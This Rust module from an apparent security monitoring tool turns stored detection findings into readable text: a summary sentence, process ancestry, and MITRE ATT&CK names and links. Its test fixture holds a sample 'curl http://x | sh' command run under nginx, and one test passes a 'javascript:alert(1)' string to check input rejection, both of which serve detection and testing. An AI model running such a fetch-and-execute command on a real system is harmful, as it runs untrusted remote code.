//! A finding as a person reads it, from its stored ECS body: one sentence of what happened,
//! the process ancestry with command lines, the ATT&CK tactics and techniques with their names
//! and links, and the rule's text. Everything here is untrusted text the agent sent; it is
//! bounded here and escaped where it is shown.

use serde_json::Value;

/// Longest command line shown in a sentence (characters; the tree shows more).
const SENTENCE_CMD: usize = 80;
/// Longest text taken from a finding field.
const FIELD: usize = 2000;
/// Most ancestors shown.
const MAX_ANCESTORS: usize = 16;

fn at<'a>(v: &'a Value, path: &str) -> Option<&'a Value> {
    path.split('.').try_fold(v, |cur, k| cur.get(k))
}

/// A text field, bounded; numbers as text.
pub fn text(v: &Value, path: &str) -> Option<String> {
    match at(v, path)? {
        Value::String(s) if !s.is_empty() => Some(s.chars().take(FIELD).collect()),
        Value::Number(n) => Some(n.to_string()),
        _ => None,
    }
}

fn list(v: &Value, path: &str) -> Vec<String> {
    match at(v, path) {
        Some(Value::Array(a)) => a
            .iter()
            .take(64)
            .filter_map(|x| match x {
                Value::String(s) => Some(s.chars().take(FIELD).collect()),
                Value::Number(n) => Some(n.to_string()),
                _ => None,
            })
            .collect(),
        _ => Vec::new(),
    }
}

fn shorten(s: &str, max: usize) -> String {
    if s.chars().count() <= max {
        s.to_owned()
    } else {
        let mut out: String = s.chars().take(max.saturating_sub(1)).collect();
        out.push('…');
        out
    }
}

fn base_name(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// What happened, in one sentence: `sh -c 'curl … | sh' run by www-data under nginx on web-3`.
/// `host` is the agent's host name, used when the event names none.
pub fn sentence(body: &Value, host: &str) -> String {
    let title = text(body, "rule.name").unwrap_or_else(|| "Finding".into());
    let mut what = String::new();
    let cmd = text(body, "process.command_line")
        .or_else(|| text(body, "process.executable"))
        .or_else(|| text(body, "process.name"));
    if let Some(cmd) = &cmd {
        what.push_str(&shorten(cmd, SENTENCE_CMD));
        what.push_str(" run");
    }
    if let Some(path) = text(body, "file.path") {
        if what.is_empty() {
            what.push_str(&shorten(&path, SENTENCE_CMD));
        } else {
            what.push_str(&format!(" on {}", shorten(&path, SENTENCE_CMD)));
        }
    }
    if let Some(ip) = text(body, "destination.ip").or_else(|| text(body, "destination.domain")) {
        let port = text(body, "destination.port").map_or(String::new(), |p| format!(":{p}"));
        what.push_str(&format!(" to {ip}{port}"));
    }
    if let Some(user) =
        text(body, "user.name").or_else(|| text(body, "user.id").map(|u| format!("uid {u}")))
    {
        what.push_str(&format!(" by {user}"));
    }
    if let Some(parent) = text(body, "process.parent.name")
        .or_else(|| text(body, "process.parent.executable").map(|p| base_name(&p).to_owned()))
    {
        what.push_str(&format!(" under {parent}"));
    }
    let host = text(body, "host.name").unwrap_or_else(|| host.to_owned());
    if !host.is_empty() {
        what.push_str(&format!(" on {host}"));
    }
    let what = what.trim();
    if what.is_empty() {
        title
    } else {
        format!("{title}: {what}")
    }
}

/// One process in the ancestry, oldest first in [`ancestry`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Proc {
    pub pid: Option<String>,
    pub executable: String,
    pub command_line: Option<String>,
    /// The process the finding is about.
    pub subject: bool,
}

/// The process ancestry, oldest first and the finding's process last: the ancestors the
/// agent recorded (`process.ancestors.*`, parent first), the parent with its command line,
/// then the process.
pub fn ancestry(body: &Value) -> Vec<Proc> {
    let mut out = Vec::new();
    let pids = list(body, "process.ancestors.pid");
    let exes = list(body, "process.ancestors.executable");
    let parent_pid = text(body, "process.parent.pid");
    // Parent first in the lists; the parent itself is shown from process.parent below.
    let skip = usize::from(parent_pid.is_some() && pids.first() == parent_pid.as_ref());
    let n = pids.len().max(exes.len()).min(MAX_ANCESTORS);
    for i in (skip..n).rev() {
        out.push(Proc {
            pid: pids.get(i).cloned(),
            executable: exes.get(i).cloned().unwrap_or_else(|| "?".into()),
            command_line: None,
            subject: false,
        });
    }
    let parent_exe =
        text(body, "process.parent.executable").or_else(|| text(body, "process.parent.name"));
    if parent_pid.is_some() || parent_exe.is_some() {
        out.push(Proc {
            pid: parent_pid,
            executable: parent_exe.unwrap_or_else(|| "?".into()),
            command_line: text(body, "process.parent.command_line"),
            subject: false,
        });
    }
    let exe = text(body, "process.executable").or_else(|| text(body, "process.name"));
    if exe.is_some() || text(body, "process.pid").is_some() {
        out.push(Proc {
            pid: text(body, "process.pid"),
            executable: exe.unwrap_or_else(|| "?".into()),
            command_line: text(body, "process.command_line"),
            subject: true,
        });
    }
    out
}

/// An ATT&CK tactic or technique with its name and link.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Attack {
    pub id: String,
    pub name: String,
    pub url: String,
}

const TACTICS: [(&str, &str, &str); 14] = [
    ("reconnaissance", "TA0043", "Reconnaissance"),
    ("resource_development", "TA0042", "Resource Development"),
    ("initial_access", "TA0001", "Initial Access"),
    ("execution", "TA0002", "Execution"),
    ("persistence", "TA0003", "Persistence"),
    ("privilege_escalation", "TA0004", "Privilege Escalation"),
    ("defense_evasion", "TA0005", "Defense Evasion"),
    ("credential_access", "TA0006", "Credential Access"),
    ("discovery", "TA0007", "Discovery"),
    ("lateral_movement", "TA0008", "Lateral Movement"),
    ("collection", "TA0009", "Collection"),
    ("command_and_control", "TA0011", "Command and Control"),
    ("exfiltration", "TA0010", "Exfiltration"),
    ("impact", "TA0040", "Impact"),
];

/// Names of the techniques Linux rules most often carry; others show their id.
const TECHNIQUES: &[(&str, &str)] = &[
    ("T1003", "OS Credential Dumping"),
    (
        "T1003.008",
        "OS Credential Dumping: /etc/passwd and /etc/shadow",
    ),
    ("T1014", "Rootkit"),
    ("T1021.004", "Remote Services: SSH"),
    ("T1027", "Obfuscated Files or Information"),
    ("T1036", "Masquerading"),
    ("T1040", "Network Sniffing"),
    ("T1046", "Network Service Discovery"),
    ("T1053", "Scheduled Task/Job"),
    ("T1053.003", "Scheduled Task/Job: Cron"),
    ("T1055", "Process Injection"),
    ("T1055.008", "Process Injection: Ptrace System Calls"),
    ("T1059", "Command and Scripting Interpreter"),
    ("T1059.004", "Command and Scripting Interpreter: Unix Shell"),
    ("T1059.006", "Command and Scripting Interpreter: Python"),
    ("T1068", "Exploitation for Privilege Escalation"),
    ("T1070", "Indicator Removal"),
    (
        "T1070.002",
        "Indicator Removal: Clear Linux or Mac System Logs",
    ),
    ("T1070.003", "Indicator Removal: Clear Command History"),
    ("T1070.004", "Indicator Removal: File Deletion"),
    ("T1071", "Application Layer Protocol"),
    ("T1082", "System Information Discovery"),
    ("T1087", "Account Discovery"),
    ("T1098", "Account Manipulation"),
    ("T1098.004", "Account Manipulation: SSH Authorized Keys"),
    ("T1105", "Ingress Tool Transfer"),
    ("T1110", "Brute Force"),
    ("T1136", "Create Account"),
    ("T1190", "Exploit Public-Facing Application"),
    (
        "T1222.002",
        "File and Directory Permissions Modification: Linux and Mac",
    ),
    ("T1485", "Data Destruction"),
    ("T1486", "Data Encrypted for Impact"),
    ("T1496", "Resource Hijacking"),
    ("T1505.003", "Server Software Component: Web Shell"),
    (
        "T1543.002",
        "Create or Modify System Process: Systemd Service",
    ),
    (
        "T1546.004",
        "Event Triggered Execution: Unix Shell Configuration Modification",
    ),
    (
        "T1547.006",
        "Boot or Logon Autostart Execution: Kernel Modules and Extensions",
    ),
    (
        "T1548.001",
        "Abuse Elevation Control Mechanism: Setuid and Setgid",
    ),
    (
        "T1548.003",
        "Abuse Elevation Control Mechanism: Sudo and Sudo Caching",
    ),
    ("T1552", "Unsecured Credentials"),
    ("T1552.004", "Unsecured Credentials: Private Keys"),
    ("T1562", "Impair Defenses"),
    ("T1562.001", "Impair Defenses: Disable or Modify Tools"),
    (
        "T1562.004",
        "Impair Defenses: Disable or Modify System Firewall",
    ),
    ("T1572", "Protocol Tunneling"),
    (
        "T1574.006",
        "Hijack Execution Flow: Dynamic Linker Hijacking",
    ),
    ("T1611", "Escape to Host"),
];

fn is_technique_id(id: &str) -> bool {
    let b = id.as_bytes();
    b.len() >= 5
        && b.len() <= 9
        && b[0] == b'T'
        && b[1..5].iter().all(u8::is_ascii_digit)
        && (b.len() == 5 || (b[5] == b'.' && b.len() == 9 && b[6..].iter().all(u8::is_ascii_digit)))
}

/// A technique id with its name and its page on attack.mitre.org (None for what is not a
/// technique id).
pub fn technique(id: &str) -> Option<Attack> {
    let id = id.trim().to_ascii_uppercase();
    if !is_technique_id(&id) {
        return None;
    }
    let name = TECHNIQUES
        .iter()
        .find(|(t, _)| *t == id)
        .or_else(|| TECHNIQUES.iter().find(|(t, _)| *t == &id[..5]))
        .map_or_else(|| id.clone(), |(_, n)| (*n).to_owned());
    let url = format!(
        "https://attack.mitre.org/techniques/{}/",
        id.replace('.', "/")
    );
    Some(Attack { id, name, url })
}

/// A tactic (`execution`, `command-and-control`) with its name and page.
pub fn tactic(name: &str) -> Option<Attack> {
    let key = name.trim().to_ascii_lowercase().replace('-', "_");
    TACTICS
        .iter()
        .find(|(k, _, _)| *k == key)
        .map(|(_, id, n)| Attack {
            id: (*id).to_owned(),
            name: (*n).to_owned(),
            url: format!("https://attack.mitre.org/tactics/{id}/"),
        })
}

/// The finding's tactics and techniques, from `threat.*` and the rule's `attack.*` tags.
pub fn attack(body: &Value) -> (Vec<Attack>, Vec<Attack>) {
    let mut tactics: Vec<Attack> = list(body, "threat.tactic.name")
        .iter()
        .filter_map(|t| tactic(t))
        .collect();
    let mut techniques: Vec<Attack> = list(body, "threat.technique.id")
        .iter()
        .filter_map(|t| technique(t))
        .collect();
    for tag in list(body, "ringfence.finding.tags") {
        if let Some(rest) = tag.strip_prefix("attack.") {
            if let Some(t) = technique(rest) {
                techniques.push(t);
            } else if let Some(t) = tactic(rest) {
                tactics.push(t);
            }
        }
    }
    tactics.dedup_by(|a, b| a.id == b.id);
    techniques.dedup_by(|a, b| a.id == b.id);
    tactics.sort_by(|a, b| a.id.cmp(&b.id));
    tactics.dedup_by(|a, b| a.id == b.id);
    techniques.sort_by(|a, b| a.id.cmp(&b.id));
    techniques.dedup_by(|a, b| a.id == b.id);
    (tactics, techniques)
}

/// The first technique id a finding body names (what the `technique` column holds).
pub fn first_technique(body: &Value) -> Option<String> {
    attack(body).1.into_iter().next().map(|t| t.id)
}

/// The rule's text a finding carries.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct RuleText {
    pub id: Option<String>,
    pub title: Option<String>,
    pub description: Option<String>,
    pub false_positives: Vec<String>,
    pub reference: Option<String>,
    pub file: Option<String>,
    pub level: Option<String>,
}

pub fn rule(body: &Value) -> RuleText {
    let mut false_positives = list(body, "rule.falsepositives");
    if false_positives.is_empty() {
        false_positives = list(body, "ringfence.finding.falsepositives");
    }
    RuleText {
        id: text(body, "rule.id"),
        title: text(body, "rule.name"),
        description: text(body, "rule.description"),
        false_positives,
        reference: text(body, "rule.reference").filter(|r| r.starts_with("https://")),
        file: text(body, "rule.ruleset"),
        level: text(body, "ringfence.finding.level"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn curl_pipe() -> Value {
        json!({
            "host": {"name": "web-3"},
            "user": {"name": "www-data"},
            "rule": {"name": "Download piped to a shell", "description": "curl | sh"},
            "threat": {"technique": {"id": ["T1059.004", "T1105"]}, "tactic": {"name": ["execution", "command_and_control"]}},
            "process": {
                "pid": 300, "executable": "/bin/sh", "command_line": "sh -c 'curl http://x | sh'",
                "parent": {"pid": 200, "executable": "/usr/sbin/nginx", "name": "nginx", "command_line": "nginx: worker process"},
                "ancestors": {"pid": [200, 100, 1], "executable": ["/usr/sbin/nginx", "/usr/sbin/nginx", "/sbin/init"]}
            }
        })
    }

    #[test]
    fn one_sentence_says_what_ran_by_whom_under_what_where() {
        assert_eq!(
            sentence(&curl_pipe(), "ignored"),
            "Download piped to a shell: sh -c 'curl http://x | sh' run by www-data under nginx on web-3"
        );
        assert_eq!(sentence(&json!({}), "h1"), "Finding: on h1");
    }

    #[test]
    fn ancestry_is_oldest_first_with_the_parent_once() {
        let a = ancestry(&curl_pipe());
        let exes: Vec<&str> = a.iter().map(|p| p.executable.as_str()).collect();
        assert_eq!(
            exes,
            [
                "/sbin/init",
                "/usr/sbin/nginx",
                "/usr/sbin/nginx",
                "/bin/sh"
            ]
        );
        assert_eq!(a[2].command_line.as_deref(), Some("nginx: worker process"));
        assert!(a[3].subject);
    }

    #[test]
    fn attack_names_and_links() {
        let (tactics, techniques) = attack(&curl_pipe());
        assert_eq!(tactics[0].name, "Execution");
        assert_eq!(tactics[1].url, "https://attack.mitre.org/tactics/TA0011/");
        assert_eq!(techniques[0].id, "T1059.004");
        assert_eq!(
            techniques[0].url,
            "https://attack.mitre.org/techniques/T1059/004/"
        );
        assert_eq!(technique("t9999").map(|t| t.name), Some("T9999".into()));
        assert!(technique("javascript:alert(1)").is_none());
        assert_eq!(first_technique(&curl_pipe()).as_deref(), Some("T1059.004"));
    }
}
